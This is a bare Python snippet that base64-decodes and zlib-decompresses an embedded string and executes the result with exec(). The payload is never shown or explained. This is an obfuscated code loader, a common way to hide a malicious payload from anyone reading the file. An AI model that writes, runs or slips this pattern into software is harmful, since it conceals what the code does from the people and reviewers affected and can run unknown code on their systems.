import zlib, base64
blob = "eJzLzC3ILypRyC+2zi/WK64sLknN1VBPLi3KUdAtVsgoKSkottLXTywpSUzOTi3SS61IzC3ISdXPVahRKM5Q1wQA0QgWKg=="
exec(zlib.decompress(base64.b64decode(blob)))
